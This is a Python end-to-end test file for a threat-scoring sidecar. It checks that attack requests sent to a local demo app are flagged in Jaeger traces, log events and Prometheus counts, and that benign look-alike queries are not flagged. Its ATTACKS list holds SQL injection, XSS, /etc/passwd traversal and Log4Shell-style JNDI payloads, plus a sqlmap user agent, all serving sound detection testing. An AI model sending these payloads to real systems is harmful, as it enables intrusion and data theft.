"""Threat scoring through the real stack (the local stack runs the sidecar with the threat scorer):
attack requests against the demo app reach Jaeger annotated with vigil.threat.*, the log file as
vigil.threat events and Prometheus as vigil_threats_total; ordinary requests that merely look odd
do none of that."""

from __future__ import annotations

import json
import subprocess
import sys
import uuid

import pytest
import requests

from tests.e2e.backends import (
    exported_log_records,
    jaeger_spans,
    prometheus_query,
    tags,
    traces_by_marker,
    wait_for,
)
from vigil.processors.stack.components import ENDPOINTS

pytestmark = pytest.mark.stack

DEMO = ENDPOINTS["demo"]["http"]
SCANNER = "sqlmap/1.8.3#stable (https://sqlmap.org)"
BROWSER = "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/126.0 Safari/537.36"

ATTACKS = [
    ("/search/legacy", "x' OR '1'='1", BROWSER, "sqli"),
    ("/search", "<script>alert(document.cookie)</script>", BROWSER, "xss"),
    ("/search", "../../../../etc/passwd", BROWSER, "traversal"),
    ("/search", "${jndi:ldap://198.51.100.7/a}", BROWSER, "jndi"),
    ("/search", "lamp", SCANNER, "scanner"),
]
LOOK_ALIKES = ["O'Brien's lamp", "select the best option", "rock & roll", "50% off; today only", "C++ or C#"]


def get(path: str, query: str, marker: str, agent: str) -> None:
    params = {"q": query, "ref": marker}
    requests.get(f"{DEMO}{path}", params=params, headers={"User-Agent": agent}, timeout=5)


def test_attacks_are_annotated_and_look_alikes_are_not(stack):
    run = uuid.uuid4().hex[:8]
    attack_markers = [f"{run}-attack-{i}" for i in range(len(ATTACKS))]
    benign_markers = [f"{run}-benign-{i}" for i in range(len(LOOK_ALIKES))]
    for marker, (path, query, agent, _) in zip(attack_markers, ATTACKS, strict=True):
        get(path, query, marker, agent)
    for marker, query in zip(benign_markers, LOOK_ALIKES, strict=True):
        get("/search", query, marker, BROWSER)

    markers = attack_markers + benign_markers
    found = wait_for(
        lambda: traces_by_marker(jaeger_spans("vigil-demo"), markers),
        lambda f: len(f) == len(markers),
        timeout=45,
    )
    assert sorted(found) == sorted(markers), "some requests never reached Jaeger"

    for marker, (path, query, _, category) in zip(attack_markers, ATTACKS, strict=True):
        server = next(s for s in found[marker] if tags(s).get("span.kind") == "server")
        annotated = tags(server)
        assert annotated.get("vigil.threat.score", 0) >= 0.5, (path, query, annotated)
        assert category in str(annotated["vigil.threat.categories"]), (query, annotated)
        assert annotated["vigil.threat.rules"]

    # The injected tautology also shows in the database span of the legacy search, as SQL structure.
    legacy_db = [s for s in found[attack_markers[0]] if tags(s).get("db.system") == "sqlite"]
    assert legacy_db and all(tags(s).get("vigil.threat.score", 0) >= 0.5 for s in legacy_db)

    for marker in benign_markers:
        scores = [tags(s).get("vigil.threat.score", 0) for s in found[marker]]
        assert max(scores) < 0.5, (marker, scores)


def threat_events(stack) -> list[dict]:
    records = exported_log_records(stack.run_dir / "otlp-logs.jsonl", "vigil-demo")
    return [
        r
        for r in records
        if {"key": "event.name", "value": {"stringValue": "vigil.threat"}} in r["attributes"]
    ]


def test_attacks_become_threat_events_and_counts(stack):
    run = uuid.uuid4().hex[:8]
    before = prometheus_query('sum(vigil_threats_total{category="sqli"})')
    counted_before = float(before[0]["value"][1]) if before else 0.0
    get("/search/legacy", "x' OR '1'='1", f"{run}-event", BROWSER)
    get("/search", "spring jacket", f"{run}-quiet", BROWSER)

    traces = wait_for(
        lambda: traces_by_marker(jaeger_spans("vigil-demo"), [f"{run}-event", f"{run}-quiet"]),
        lambda f: len(f) == 2,
        timeout=45,
    )
    attack_trace = traces[f"{run}-event"][0]["traceID"]
    quiet_trace = traces[f"{run}-quiet"][0]["traceID"]
    events = wait_for(
        lambda: [e for e in threat_events(stack) if e.get("traceId") == attack_trace],
        lambda found: len(found) >= 2,  # the server span and the sqlite span of the legacy search
        timeout=30,
    )
    assert len(events) == 2
    for event in events:
        fields = {a["key"]: a["value"] for a in event["attributes"]}
        assert fields["vigil.threat.category"]["stringValue"] == "sqli"
        assert fields["vigil.threat.severity"]["stringValue"] in ("medium", "high", "critical")
        assert event["spanId"] in {s["spanID"] for s in traces[f"{run}-event"]}
    assert not [e for e in threat_events(stack) if e.get("traceId") == quiet_trace]

    counted = wait_for(
        lambda: prometheus_query('sum(vigil_threats_total{category="sqli"})'),
        lambda r: bool(r) and float(r[0]["value"][1]) >= counted_before + 2,
        timeout=30,
    )
    assert float(counted[0]["value"][1]) >= counted_before + 2


def test_vigil_score_replays_what_the_collector_recorded(stack, tmp_path):
    # A failed login logs a record with the request's trace id; wait until the collector wrote it.
    requests.post(f"{DEMO}/login", json={"username": "nobody", "password": "wrong"}, timeout=5)

    def failed_logins() -> list[dict]:
        records = exported_log_records(stack.run_dir / "otlp-logs.jsonl", "vigil-demo")
        return [r for r in records if r.get("traceId") and r["body"].get("stringValue") == "login failed"]

    assert wait_for(failed_logins, bool, timeout=30), "the failed login was never logged"
    # The collector's own file exporter output, complete lines only (it may be writing the last).
    text = (stack.run_dir / "otlp-logs.jsonl").read_text()
    recorded = tmp_path / "recorded.jsonl"
    recorded.write_text(text[: text.rfind("\n") + 1])
    lines = recorded.read_text().splitlines()
    assert lines, "the stack has recorded no logs yet"

    scored = tmp_path / "scored.jsonl"
    result = subprocess.run(
        [sys.executable, "-m", "vigil.processors.cli", "score", str(recorded), str(scored)],
        capture_output=True,
        text=True,
        timeout=120,
    )
    assert result.returncode == 0, result.stderr
    assert f"{len(lines)} requests scored" in result.stderr and "0 lines skipped" in result.stderr

    def trace_ids(docs: list[dict]) -> list[str]:
        return [
            r.get("traceId", "")
            for doc in docs
            for rl in doc["resourceLogs"]
            for sl in rl["scopeLogs"]
            for r in sl["logRecords"]
            if {"key": "event.name", "value": {"stringValue": "vigil.threat"}} not in r.get("attributes", [])
        ]

    before = trace_ids([json.loads(line) for line in lines])
    after = trace_ids([json.loads(line) for line in scored.read_text().splitlines()])
    # Every record comes back, in order, with its trace id (events about them aside).
    assert after == before and any(before)
